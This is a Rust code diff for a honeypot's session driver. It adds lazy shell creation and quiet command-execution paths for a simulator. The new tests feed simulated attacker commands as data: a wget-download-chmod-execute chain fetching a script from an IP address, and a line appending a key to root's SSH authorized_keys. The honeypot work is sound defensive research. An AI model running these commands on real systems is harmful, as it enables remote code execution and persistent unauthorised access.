@@ -10,7 +10,7 @@
 use hf_geo::Ip4;
 use hf_proto::creds::{AuthOutcome, Credentials};
 use hf_proto::Protocol;
-use hf_shell::{RemoteFetcher, SessionEvents, ShellSession};
+use hf_shell::{LineBuf, QuietExec, RemoteFetcher, SessionEvents, ShellSession};
 use hf_simclock::SimInstant;
 
 use crate::config::HoneypotConfig;
@@ -144,8 +144,9 @@ impl SessionDriver {
         let accepted = self.config.auth.check(&creds) == AuthOutcome::Accepted;
         self.record.logins.push(LoginAttempt { creds, accepted });
         if accepted {
-            let fetcher = self.fetcher.take().expect("fetcher consumed once");
-            self.shell = Some(ShellSession::new(self.config.profile.clone(), fetcher));
+            // The shell itself is created lazily on the first command: a large
+            // share of authenticated sessions never type anything (the paper's
+            // NO_CMD shape), and they should not pay for VFS setup.
             self.phase = Phase::Shell;
             AuthResult::Accepted
         } else {
@@ -169,14 +170,56 @@ impl SessionDriver {
         if self.phase != Phase::Shell {
             return None;
         }
-        let shell = self.shell.as_mut().expect("shell in Shell phase");
-        let res = shell.execute(line);
+        let res = self.shell_mut().execute(line);
         if res.exited {
             self.harvest_shell();
             self.end(EndReason::ClientClose);
-            return Some(res.rendered);
         }
         Some(res.rendered)
+    }
+
+    /// Like [`SessionDriver::run_command`] but without materialising the
+    /// terminal output — the simulator's path (nothing echoes the render).
+    pub fn run_command_quiet(&mut self, line: &str, think_secs: u32) -> Option<QuietExec> {
+        if self.finished() || !self.advance_activity(think_secs) {
+            return None;
+        }
+        if self.phase != Phase::Shell {
+            return None;
+        }
+        let q = self.shell_mut().execute_quiet(line);
+        if q.exited {
+            self.harvest_shell();
+            self.end(EndReason::ClientClose);
+        }
+        Some(q)
+    }
+
+    /// Execute a pre-parsed command line quietly — the prepared-script fast
+    /// path (the simulator parses each campaign variant once per day, not
+    /// once per session).
+    pub fn run_parsed_quiet(&mut self, buf: &LineBuf, think_secs: u32) -> Option<QuietExec> {
+        if self.finished() || !self.advance_activity(think_secs) {
+            return None;
+        }
+        if self.phase != Phase::Shell {
+            return None;
+        }
+        let q = self.shell_mut().execute_parsed_quiet(buf);
+        if q.exited {
+            self.harvest_shell();
+            self.end(EndReason::ClientClose);
+        }
+        Some(q)
+    }
+
+    /// The session shell, created on first use.
+    fn shell_mut(&mut self) -> &mut ShellSession {
+        if self.shell.is_none() {
+            let fetcher = self.fetcher.take().expect("fetcher consumed once");
+            self.shell = Some(ShellSession::new(self.config.profile.clone(), fetcher));
+        }
+        self.shell.as_mut().expect("just created")
     }
 
     /// Account for a completed external transfer taking `secs` — resets the
@@ -373,6 +416,42 @@ mod tests {
         assert_eq!(r.file_hashes.len(), 1);
         assert!(r.uris.is_empty());
         assert_eq!(r.ended_by, EndReason::ClientClose);
+    }
+
+    #[test]
+    fn quiet_commands_yield_identical_records() {
+        let script = "cd /tmp && wget http://198.51.100.1/x.sh; chmod 777 x.sh; ./x.sh";
+        let run = |quiet: bool| {
+            let mut d = driver();
+            d.offer_credentials(Credentials::new("root", "1234"), 1);
+            if quiet {
+                d.run_command_quiet(script, 2).unwrap();
+                d.run_command_quiet("exit", 1);
+            } else {
+                d.run_command(script, 2).unwrap();
+                d.run_command("exit", 1);
+            }
+            d.into_record()
+        };
+        assert_eq!(run(false), run(true));
+    }
+
+    #[test]
+    fn parsed_quiet_matches_line_execution() {
+        let script = "uname -a; echo k >> /root/.ssh/authorized_keys";
+        let mut a = driver();
+        a.offer_credentials(Credentials::new("root", "1234"), 1);
+        a.run_command(script, 2);
+        a.client_close();
+
+        let mut buf = LineBuf::new();
+        buf.parse(script);
+        let mut b = driver();
+        b.offer_credentials(Credentials::new("root", "1234"), 1);
+        b.run_parsed_quiet(&buf, 2).unwrap();
+        b.client_close();
+
+        assert_eq!(a.into_record(), b.into_record());
     }
 
     #[test]
